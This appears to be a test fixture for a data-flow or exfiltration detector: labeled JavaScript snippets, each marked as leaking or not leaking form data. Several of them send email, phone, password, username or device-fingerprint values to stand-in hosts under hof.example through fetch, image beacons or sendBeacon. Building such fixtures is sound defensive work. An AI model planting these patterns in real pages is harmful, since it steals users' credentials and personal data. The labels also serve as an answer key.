//# curried
// flow: email > curry.hof.example via fetch
const post = (url) => (type) => (data) => fetch(url + '/' + type, { method: 'POST', body: data });
post('https://curry.hof.example')('lead')(document.querySelector('input[type=email]').value);

//# curried-not-completed
// no flow
// why: the last function is returned and never called
const put = (url) => (data) => () => fetch(url, { method: 'PUT', body: data });
const ready = put('https://half.hof.example/x')(document.querySelector('input[type=email]').value);
console.log(typeof ready);

//# compose
// flow: phone > comp.hof.example via image
const compose = (...fs) => (x) => fs.reduceRight((v, f) => f(v), x);
const hit = compose((u) => { new Image().src = u; }, (q) => 'https://comp.hof.example/p?' + q, (v) => 't=' + v);
hit(document.querySelector('input[type=tel]').value);

//# pipe-with-constant-stage
// no flow
// why: one stage throws its argument away
const pipe = (...fs) => (x) => fs.reduce((v, f) => f(v), x);
const report = pipe((s) => s.trim(), () => 'typed', (v) => fetch('https://stage.hof.example/p?v=' + v));
report(document.querySelector('input[type=search]').value);

//# reduce-query
// flow: device > red.hof.example via fetch
var q = ['userAgent', 'platform', 'vendor'].reduce(function (acc, k) {
  return acc + '&' + k + '=' + encodeURIComponent(navigator[k]);
}, 'v=1');
fetch('https://red.hof.example/d?' + q);

//# reduce-count
// no flow
// why: the fields are only counted
const filled = [...document.querySelectorAll('input[type=email], input[type=tel]')].reduce((n, i) => n + (i.value ? 1 : 0), 0);
fetch('https://filled.hof.example/n?c=' + filled);

//# factory
// flow: identifier > fac.hof.example via beacon
function createTracker(endpoint) {
  var id = localStorage.getItem('uid');
  return { track: function (n) { navigator.sendBeacon(endpoint, n + ':' + id); } };
}
createTracker('https://fac.hof.example/t').track('view');

//# factory-per-instance
// flow: message > two.hof.example via fetch
// no destination: three.hof.example
// why: near miss: the second client is made and never used
const mk = (h) => ({ say: (m) => fetch('https://' + h + '/s', { method: 'POST', body: m }) });
const a = mk('two.hof.example');
const b = mk('three.hof.example');
a.say(document.querySelector('textarea[name=message]').value);

//# memo
// flow: device > memo.hof.example via fetch
const memo = (fn) => { let v, done; return () => (done ? v : ((done = true), (v = fn()))); };
const print = memo(() => navigator.userAgent + screen.width);
print();
fetch('https://memo.hof.example/m', { method: 'POST', body: print() });

//# once-first-wins
// no flow
// why: once() keeps the answer of the first call, made with a constant
const once = (fn) => { let r, d = false; return (x) => { if (!d) { d = true; r = fn(x); } return r; }; };
const label = once((x) => 'label-' + x);
label('start');
fetch('https://once.hof.example/o?l=' + label(document.querySelector('input[type=email]').value));

//# dispatch-table
// flow: password > login.hof.example via fetch
// no destination: logout.hof.example
const actions = {
  login: (v) => fetch('https://login.hof.example/i', { method: 'POST', body: v }),
  logout: (v) => fetch('https://logout.hof.example/o', { method: 'POST', body: v }),
};
actions['log' + 'in'](document.querySelector('input[type=password]').value);

//# array-of-functions
// flow: username > arr.hof.example via fetch
[console.log, (v) => fetch('https://arr.hof.example/a?u=' + v)].forEach((f) => f(document.querySelector('input[name=username]').value));

//# filter-drops-sender
// no flow
// why: the sender is filtered out before the list is run
const outs = [
  { on: true, f: (v) => console.info(v) },
  { on: false, f: (v) => fetch('https://filt.hof.example/a?u=' + v) },
];
outs.filter((o) => o.on).forEach((o) => o.f(document.querySelector('input[name=username]').value));

//# dynamic-callee
// flow: search > dyn.hof.example via fetch
const api = { send: (u, b) => fetch(u, { method: 'POST', body: b }) };
const m = ['se', 'nd'].join('');
api[m]('https://dyn.hof.example/d', document.querySelector('input[type=search]').value);

//# shadowed-fetch
// no flow
// why: fetch is the parameter, a local function that only logs
(function (fetch) {
  fetch('https://shadow.hof.example/s', { body: document.querySelector('input[type=password]').value });
})(function (u, o) { console.log(u, typeof o.body); });

//# closure-counter
// no flow
// why: the value is kept by the closure, only the counter is sent
const counter = ((kept) => { let n = 0; return () => (kept ? ++n : n); })(document.querySelector('input[type=password]').value);
setInterval(() => navigator.sendBeacon('https://cnt.hof.example/alive', String(counter())), 60000);

//# recursive-walk
// flow: input > walk.hof.example via fetch
const grab = (node, out) => {
  if (node.tagName === 'SELECT') out.push(node.value);
  for (const c of node.children) grab(c, out);
  return out;
};
fetch('https://walk.hof.example/w', { method: 'POST', body: grab(document.forms[0], []).join('&') });

//# argument-not-passed-on
// no flow
// why: the wrapper gives the function its name instead of the value
const traced = (name, fn) => (v) => { console.log(name, v.length); return fn(name); };
const sendName = traced('signup', (x) => fetch('https://traced.hof.example/t?x=' + x));
sendName(document.querySelector('input[type=email]').value);

//# map-to-length
// no flow
const lens = ['input[type=email]', 'input[type=password]'].map((s) => document.querySelector(s).value.length);
fetch('https://lens.hof.example/l?n=' + lens.join('.'));
